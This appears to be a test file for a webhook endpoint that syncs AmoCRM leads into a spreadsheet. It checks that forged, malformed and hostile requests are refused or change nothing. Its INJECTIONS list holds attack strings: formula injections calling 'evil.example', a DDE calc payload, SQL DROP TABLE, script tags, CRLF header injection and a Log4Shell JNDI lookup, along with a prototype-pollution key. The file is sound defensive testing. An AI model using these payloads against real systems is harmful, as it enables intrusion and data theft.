// Bad webhooks, posted over HTTP to the web-app front as anyone on the internet could. Each
// gets the documented JSON answer ({ok:false, error} or {ok:true, …}) and the documented effect:
// a refused request changes nothing (sheet, formulas, Script Properties) and asks AmoCRM
// nothing; an accepted one is queued, and the next minute's background run applies AmoCRM's
// current values, never the body's.
import { encodeForm } from '../../sandbox/amo-fake';
import { MINUTE, SHEET, startWorld, STATUS, WEBHOOK_SECRET, World } from './kit';

type Pairs = Array<[string, string]>;
interface Ctx {
  w: World;
  lead1: number;
  lead2: number;
  contact1: number;
  subdomain: string;
  accountId: number;
}
interface Post {
  query?: string;
  body: string;
  contentType?: string;
}
type Answer = { ok: boolean; error?: string; rows?: number; ignored?: number; queued?: boolean };
interface Case {
  title: string;
  post(c: Ctx): Promise<Post> | Post;
  answer: { ok: false; error: string | RegExp } | { ok: true };
  /** Extra checks after the answer; default for a refusal: nothing changed. */
  effect?(c: Ctx, before: Snapshot): Promise<void> | void;
}

const SECRET_Q = `secret=${WEBHOOK_SECRET}`;
const PRICE_IN_AMO = 7777;
const INJECTIONS = [
  '=HYPERLINK("http://evil.example","click")',
  '=IMPORTXML("http://evil.example","//a")',
  "+1'; DROP TABLE leads; --",
  '<script>alert(1)</script>',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '%0d%0aSet-Cookie: x=1',
  '${jndi:ldap://evil.example/a}',
];

const account = (c: Ctx, subdomain = c.subdomain, id = String(c.accountId)): Pairs => [
  ['account[subdomain]', subdomain],
  ['account[id]', id],
  ['account[_links][self]', `https://${subdomain}.amocrm.ru`],
];
const leadItem = (action: string, i: number | string, id: number | string): Pairs => [
  [`leads[${action}][${i}][id]`, String(id)],
  [`leads[${action}][${i}][status_id]`, String(STATUS.first.id)],
  [`leads[${action}][${i}][price]`, '1'],
];
const form = (pairs: Pairs): string => encodeForm(pairs);

interface Snapshot {
  values: string;
  props: string;
  requests: number;
}

async function snapshot(c: Ctx): Promise<Snapshot> {
  const ss = c.w.rt.spreadsheet;
  const sheets = ss.sheetNames().map(n => [ss.values(n), ss.formulas(n)]);
  return {
    values: JSON.stringify(sheets),
    props: JSON.stringify(c.w.rt.properties.script.all()),
    requests: (await c.w.fake.admin.requests()).length,
  };
}

async function unchanged(c: Ctx, before: Snapshot): Promise<void> {
  const after = await snapshot(c);
  expect(after.values).toBe(before.values);
  expect(after.props).toBe(before.props);
  expect(after.requests).toBe(before.requests);
}

/**
 * Accepted, but nothing in it concerns the sheet: after the next run nothing changed but what
 * the reconciliation brings anyway (the first row's price, changed in AmoCRM without a
 * webhook, and its sync line), and nothing was written to AmoCRM.
 */
async function nothingApplied(c: Ctx, before: Snapshot): Promise<void> {
  const after = await snapshot(c);
  const blank = (values: string) => {
    const sheets = JSON.parse(values) as unknown[][][][];
    const first = sheets[0][0][1];
    first[3] = first[10] = '';
    return JSON.stringify(sheets);
  };
  expect(blank(after.values)).toBe(blank(before.values));
  sheetHasAmoPrice(c);
  const requests = await c.w.fake.admin.requests();
  expect(requests.slice(before.requests).filter(r => r.method !== 'GET')).toEqual([]);
}

async function post(c: Ctx, p: Post): Promise<Answer> {
  const url = `${c.w.web!.url}${p.query === undefined ? `?${SECRET_Q}` : p.query ? `?${p.query}` : ''}`;
  const response = await fetch(url, {
    method: 'POST',
    headers: { 'content-type': p.contentType ?? 'application/x-www-form-urlencoded' },
    body: p.body,
  });
  expect(response.status).toBe(200);
  const text = await response.text();
  try {
    return JSON.parse(text) as Answer;
  } catch {
    throw new Error(`doPost did not answer JSON: ${text.slice(0, 300)}`);
  }
}

/** A real-looking status change of both rows' leads. */
const statusBody = (c: Ctx): string =>
  form([...account(c), ...leadItem('status', 0, c.lead1), ...leadItem('status', 1, c.lead2)]);

function sheetHasAmoPrice(c: Ctx): void {
  expect(Number(c.w.row(0).budget)).toBe(PRICE_IN_AMO);
}

const refused = (error: string | RegExp) => ({ ok: false as const, error });

const CASES: Case[] = [
  {
    title: 'no secret',
    post: c => ({ query: '', body: statusBody(c) }),
    answer: refused('wrong or missing secret'),
  },
  {
    title: 'an empty secret',
    post: c => ({ query: 'secret=', body: statusBody(c) }),
    answer: refused('wrong or missing secret'),
  },
  {
    title: 'a wrong secret of the same length',
    post: c => ({
      query: `secret=${WEBHOOK_SECRET.slice(0, -1)}${WEBHOOK_SECRET.endsWith('0') ? '1' : '0'}`,
      body: statusBody(c),
    }),
    answer: refused('wrong or missing secret'),
  },
  {
    title: 'a shorter secret (a prefix of ours)',
    post: c => ({ query: `secret=${WEBHOOK_SECRET.slice(0, 8)}`, body: statusBody(c) }),
    answer: refused('wrong or missing secret'),
  },
  {
    title: 'a longer secret (ours plus one)',
    post: c => ({ query: `secret=${WEBHOOK_SECRET}x`, body: statusBody(c) }),
    answer: refused('wrong or missing secret'),
  },
  {
    title: 'the secret in upper case',
    post: c => ({ query: `secret=${WEBHOOK_SECRET.toUpperCase()}`, body: statusBody(c) }),
    answer: refused('wrong or missing secret'),
  },
  {
    title: 'the secret in another parameter',
    post: c => ({ query: `token=${WEBHOOK_SECRET}`, body: statusBody(c) }),
    answer: refused('wrong or missing secret'),
  },
  {
    title: 'the secret under another spelling of the key',
    post: c => ({ query: `Secret=${WEBHOOK_SECRET}`, body: statusBody(c) }),
    answer: refused('wrong or missing secret'),
  },
  {
    title: 'a wrong secret in the query and ours in the body',
    post: c => ({ query: 'secret=wh-guess', body: `secret=${WEBHOOK_SECRET}&${statusBody(c)}` }),
    answer: refused('wrong or missing secret'),
  },
  {
    title: 'another account (subdomain)',
    post: c => ({ body: form([...account(c, 'evilcorp'), ...leadItem('status', 0, c.lead1)]) }),
    answer: refused('the webhook is from another account'),
  },
  {
    title: 'our subdomain with another account id',
    post: c => ({
      body: form([...account(c, c.subdomain, '999'), ...leadItem('status', 0, c.lead1)]),
    }),
    answer: refused('the webhook is from another account'),
  },
  {
    title: 'no account at all',
    post: c => ({ body: form(leadItem('status', 0, c.lead1)) }),
    answer: refused('the body has no account[subdomain]'),
  },
  {
    title: 'JSON instead of a form',
    post: c => ({
      body: JSON.stringify({
        account: { subdomain: c.subdomain },
        leads: { status: [{ id: c.lead1 }] },
      }),
      contentType: 'application/json',
    }),
    answer: refused("expected AmoCRM's form-encoded webhook, got JSON"),
  },
  { title: 'an empty body', post: () => ({ body: '' }), answer: refused('empty body') },
  {
    title: 'a multipart body',
    post: c => ({
      body: `--XyZ\r\nContent-Disposition: form-data; name="account[subdomain]"\r\n\r\n${c.subdomain}\r\n--XyZ--\r\n`,
      contentType: 'multipart/form-data; boundary=XyZ',
    }),
    answer: refused(/.+/),
  },
  {
    title: 'broken percent-encoding',
    post: c => ({ body: `${form(account(c))}&leads%5Bstatus%5D%5B0%5D%5Bid%5D=%zz${c.lead1}` }),
    answer: refused('the body is not valid form data'),
  },
  {
    title: 'a body cut off in transit',
    post: c => ({ body: `${statusBody(c)}&leads%5Bsta` }),
    answer: refused(/is not a key=value pair: the body is cut off/),
  },
  {
    title: 'an id that is not a number',
    post: c => ({ body: form([...account(c), ['leads[status][0][id]', 'abc']]) }),
    answer: refused('leads[status][0][id] is not a number'),
  },
  {
    title: 'a negative id',
    post: c => ({ body: form([...account(c), ['leads[update][0][id]', '-5']]) }),
    answer: refused('leads[update][0][id] is not a number'),
  },
  {
    title: 'an id in exponent notation',
    post: c => ({ body: form([...account(c), ['leads[update][0][id]', '1e3']]) }),
    answer: refused('leads[update][0][id] is not a number'),
  },
  {
    title: 'an item without an id',
    post: c => ({ body: form([...account(c), ['leads[update][0][name]', 'x']]) }),
    answer: refused('leads[update][0][id] is missing'),
  },
  {
    title: 'a huge body (over 1 MB)',
    post: c => ({
      body: `${statusBody(c)}&leads%5Bstatus%5D%5B0%5D%5Bname%5D=${'a'.repeat(1100 * 1024)}`,
    }),
    answer: refused('the body is larger than 1 MB'),
  },
  {
    title: 'more than 1000 items',
    post: c => ({
      body: form([
        ...account(c),
        ...Array.from(
          { length: 1001 },
          (_, i) => [`leads[update][${i}][id]`, String(900000 + i)] as [string, string]
        ),
      ]),
    }),
    answer: refused('the body has more than 1000 items'),
  },
  {
    title: 'a form with unknown events only',
    post: c => ({
      body: form([
        ...account(c),
        ['task[add][0][id]', '5'],
        ['leads[note][0][note][text]', 'hi'],
        ['catalogs[add][0][id]', '7'],
      ]),
    }),
    answer: { ok: true },
    effect: nothingApplied,
  },
  {
    title: 'a company under contacts[update]',
    post: c => ({
      body: form([
        ...account(c),
        ['contacts[update][0][id]', String(c.contact1)],
        ['contacts[update][0][type]', 'company'],
      ]),
    }),
    answer: { ok: true },
    effect: nothingApplied,
  },
  {
    title: 'a lead no row links',
    post: c => ({ body: form([...account(c), ...leadItem('update', 0, 987654321)]) }),
    answer: { ok: true },
    effect: nothingApplied,
  },
  {
    title: 'indexes out of order and sparse',
    post: c => ({
      body: form([
        ...account(c),
        ...leadItem('status', 7, c.lead2),
        ...leadItem('status', 2, c.lead1),
      ]),
    }),
    answer: { ok: true },
    effect: c => {
      sheetHasAmoPrice(c);
      expect(Number(c.w.row(1).budget)).toBe(1002);
    },
  },
  {
    title: 'a key named __proto__',
    post: c => ({
      body: form([
        ...account(c),
        ...leadItem('update', 0, c.lead1),
        ['leads[update][0][__proto__][polluted]', '1'],
      ]),
    }),
    answer: { ok: true },
    effect: c => {
      sheetHasAmoPrice(c);
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    },
  },
  {
    title: 'an injection string in every text field',
    post: c => {
      const pairs: Pairs = account(c);
      const fields = [
        'name',
        'price',
        'status_id',
        'old_status_id',
        'responsible_user_id',
        'pipeline_id',
        'custom_fields][0][values][0][value',
      ];
      fields.forEach((f, i) =>
        pairs.push([`leads[status][0][${f}]`, INJECTIONS[i % INJECTIONS.length]])
      );
      pairs.push(['leads[status][0][id]', String(c.lead1)]);
      pairs.push(['contacts[update][0][id]', String(c.contact1)]);
      INJECTIONS.forEach((inj, i) => pairs.push([`contacts[update][0][field${i}]`, inj]));
      return { body: form(pairs) };
    },
    answer: { ok: true },
    effect: c => {
      // The body's values are never used: the row has AmoCRM's, and no injected text or formula.
      sheetHasAmoPrice(c);
      const ss = c.w.rt.spreadsheet;
      expect(
        ss
          .formulas(SHEET)
          .flat()
          .filter(f => f !== '')
      ).toEqual([]);
      const cells = JSON.stringify(ss.values(SHEET));
      for (const inj of INJECTIONS) expect(cells).not.toContain(inj);
    },
  },
];

async function makeWorld(): Promise<Ctx> {
  const w = await startWorld();
  const [edit] = w.type([
    { name: 'Первый', phone: '8 (916) 000-00-01', email: 'first@example.com', budget: 1001 },
    { name: 'Второй', phone: '8 (916) 000-00-02', email: 'second@example.com', budget: 1002 },
  ]);
  expect(edit.error).toBeNull();
  w.rt.clock.advance(MINUTE);
  const lead1 = Number(w.row(0).amo_deal_id);
  // AmoCRM's state moves on while its webhooks are lost: an accepted webhook naming lead 1
  // would bring this price into the sheet; a refused one must not.
  await w.fake.admin.setWebhookDelivery(false);
  await w.fake.admin.setLeadPrice({ leadId: lead1, price: PRICE_IN_AMO, now: w.now() });
  await w.fake.admin.setWebhookDelivery(true);
  const state = await w.fake.admin.state();
  return {
    w,
    lead1,
    lead2: Number(w.row(1).amo_deal_id),
    contact1: Number(w.row(0).amo_contact_id),
    subdomain: state.config.subdomain,
    accountId: state.config.accountId,
  };
}

describe(`${CASES.length} bad webhooks`, () => {
  let c: Ctx;
  beforeEach(async () => {
    c = await makeWorld();
  });
  afterEach(async () => {
    await c.w.stop();
  });

  it.each(CASES.map(k => [k.title, k] as const))('%s', async (_title, k) => {
    const before = await snapshot(c);
    const answer = await post(c, await k.post(c));
    if (!k.answer.ok) {
      expect(answer.ok).toBe(false);
      expect(answer.error).toEqual(
        expect.stringMatching(
          typeof k.answer.error === 'string'
            ? new RegExp(`^${k.answer.error.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}$`)
            : k.answer.error
        )
      );
      await (k.effect ?? unchanged)(c, before);
      return;
    }
    expect(answer).toEqual(expect.objectContaining({ ok: true, rows: 0 }));
    c.w.nextMinute();
    await k.effect?.(c, before);
  });

  it('a deleted lead: the row keeps its data and says the lead was deleted', async () => {
    const lead2 = c.lead2;
    const { deliveries } = await c.w.fake.admin.deleteLead({ leadId: lead2, now: c.w.now() });
    expect(deliveries.map(d => d.ok)).toEqual([true]);
    c.w.nextMinute();
    const row = c.w.row(1);
    expect(String(row.sync_status)).toMatch(/^deleted/);
    expect(row.name).toBe('Второй');
    expect(row.amo_deal_id).toBe(String(lead2));
    // An edit of the row does not recreate the lead behind the person's back.
    c.w.edit(3, 'budget', 2000);
    expect((await c.w.fake.admin.state()).leads.filter(l => !l.is_deleted)).toHaveLength(1);
  });

  it('a delete event for a lead that still exists (a late retry) does not mark the row deleted', async () => {
    const body = form([
      ...account(c),
      ['leads[delete][0][id]', String(c.lead1)],
      ['leads[delete][0][status_id]', String(STATUS.first.id)],
      ['leads[delete][0][pipeline_id]', '1'],
    ]);
    const answer = await post(c, { body });
    expect(answer.ok).toBe(true);
    c.w.nextMinute();
    // The lead is alive in AmoCRM: the body's claim is not to be trusted, and the row goes on syncing.
    expect((await c.w.fake.admin.lead(c.lead1))?.is_deleted).toBe(false);
    expect(String(c.w.row(0).sync_status)).not.toMatch(/^deleted/);
  });

  it('the same delivery 10 times: applied once, answered ok each time, no extra work', async () => {
    const body = statusBody(c);
    await c.w.fake.admin.resetRequests();
    const answers: Answer[] = [];
    for (let i = 0; i < 10; i++) answers.push(await post(c, { body }));
    expect(answers.every(a => a.ok === true && a.queued === true)).toBe(true);
    c.w.nextMinute();
    sheetHasAmoPrice(c);
    // Each delivery re-reads its leads and contacts: bounded, no loop, no writes to AmoCRM.
    const requests = await c.w.fake.admin.requests();
    expect(requests.length).toBeLessThanOrEqual(10 * 2);
    expect(requests.filter(r => r.method !== 'GET')).toEqual([]);
    expect((await c.w.fake.admin.state()).leads.filter(l => !l.is_deleted)).toHaveLength(2);
  });

  it("AmoCRM's own data with formulas and odd text lands as the exact text, never a formula", async () => {
    const name = '=HYPERLINK("http://evil.example","click")';
    await c.w.fake.admin.editContact({
      contactId: c.contact1,
      name,
      phone: '+79990001122',
      email: '=1+1@example.com',
      now: c.w.now(),
    });
    await c.w.fake.admin.renameLead({ leadId: c.lead1, name: '+7 (999) 000', now: c.w.now() });
    c.w.nextMinute();
    const row = c.w.row(0);
    expect(row.name).toBe(name);
    expect(row.phone).toBe('+79990001122');
    expect(row.email).toBe('=1+1@example.com');
    expect(
      c.w.rt.spreadsheet
        .formulas(SHEET)
        .flat()
        .filter(f => f !== '')
    ).toEqual([]);
  });
});
